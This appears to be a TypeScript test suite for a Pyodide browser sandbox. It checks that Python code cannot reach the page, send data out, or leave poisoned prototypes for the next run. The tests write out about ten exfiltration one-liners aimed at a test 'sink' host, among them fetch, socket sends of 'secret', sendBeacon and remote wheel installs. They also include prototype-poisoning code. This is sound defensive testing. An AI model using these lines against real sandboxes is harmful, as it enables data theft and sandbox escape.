/** Python is no wall: what it reaches of JavaScript must meet the same defences. */
import { loadPyodide } from "pyodide";
import { expect, expectNextRunPasses, test } from "./support/attack-test";
import { playInPage, throughPython } from "./support/lab";
import { runPlain } from "./support/weak-runs";
import { PRELUDE, WAYS } from "./support/ways-out";

test.describe.configure({ timeout: 300_000 });

for (const [title, waysTo] of Object.entries(WAYS)) {
  // That each way reaches the sink where nothing stops it is shown in exfiltrate.spec.ts.
  test(`${title}, through run_js`, async ({ lab, sink }) => {
    const pieces = Object.values(waysTo(sink)).map((code) => `${PRELUDE}\n${code}`);
    const source = `${throughPython(pieces)}print("tried")`;
    const played = await playInPage(lab, source, 20_000, "python");
    expect(played.stdout).toContain("tried");
    await lab.waitForTimeout(300);
    expect(sink.hits()).toEqual([]);
  });
}

test("33: pyfetch, open_url, js.fetch, js.XMLHttpRequest, urllib and micropip", async ({
  lab,
  weak,
  sink,
}) => {
  // What Pyodide does where nothing stops it: pyfetch is fetch, and open_url is a synchronous XMLHttpRequest.
  const free = await loadPyodide({ indexURL: "node_modules/pyodide" });
  await free.runPythonAsync(
    `from pyodide.http import pyfetch\nawait pyfetch("${sink.url}/py?d=secret")`,
  );
  expect(sink.hits(), "pyfetch").not.toEqual([]);
  sink.clear();
  const open = `const x = new XMLHttpRequest(); x.open("GET", "${sink.url}/x", false); x.send();`;
  await runPlain(weak, open, 1_200);
  expect(sink.hits(), "open_url").not.toEqual([]);

  sink.clear();
  const ways = [
    `from pyodide.http import pyfetch; pyfetch("${sink.url}/a").send(None)`,
    `from pyodide.http import open_url; open_url("${sink.url}/b")`,
    `import js; js.fetch("${sink.url}/c")`,
    `import js; x = js.XMLHttpRequest.new(); x.open("GET", "${sink.url}/d", False); x.send()`,
    `import urllib.request; urllib.request.urlopen("${sink.url}/e")`,
    `import http.client; http.client.HTTPConnection("${sink.host}").request("GET", "/f")`,
    `import _socket; s = _socket.socket(); s.connect(("127.0.0.1", ${sink.host.split(":")[1]})); s.send(b"secret")`,
    `import micropip; micropip.install("${sink.url}/g.whl")`,
    `import pyodide_js; pyodide_js.loadPackage("${sink.url}/h.whl")`,
    `import js; js.navigator.sendBeacon("${sink.url}/i", "secret")`,
  ];
  const tried = ways.map(
    (code) =>
      `try:\n    exec(${JSON.stringify(code)})\nexcept BaseException as error:\n    print(type(error).__name__)`,
  );
  const source = `import time\n${tried.join("\n")}\ntime.sleep(0.5)\nprint("tried")`;
  const played = await playInPage(lab, source, 20_000, "python");
  expect(played.stdout).toContain("tried");
  await lab.waitForTimeout(300);
  expect(sink.hits()).toEqual([]);
});

test("35, 36: nothing of the page and no taken global is reached from Python", async ({ lab }) => {
  const names =
    "Worker SharedWorker BroadcastChannel caches indexedDB importScripts XMLHttpRequest WebSocket EventSource fetch " +
    "FontFace OffscreenCanvas document window parent top opener localStorage";
  const source = `
import js
from pyodide.code import run_js
print([n for n in "${names}".split() if getattr(js, n, None) is not None])
print([n for n in "${names}".split() if run_js("typeof " + n) != "undefined"])
`;
  const played = await playInPage(lab, source, 20_000, "python");
  expect(played).toMatchObject({ stdout: "[]\n[]", error: null });
});

test("37: poisoned prototypes and packages do not outlive the run", async ({ lab }) => {
  const source = `
from pyodide.code import run_js
import builtins, sys
run_js("Object.prototype.then = (f) => f({ pass: true }); Array.prototype.push = () => 0; MessagePort.prototype.postMessage = () => {}; 0")
builtins.print = None
sys.modules["jax"] = None
`;
  await playInPage(lab, source, 20_000, "python");
  const next = await playInPage(lab, "import jax\nprint(jax.__name__)", 20_000, "python");
  expect(next).toMatchObject({ ok: true, stdout: "jax" });
  await expectNextRunPasses(lab);
});
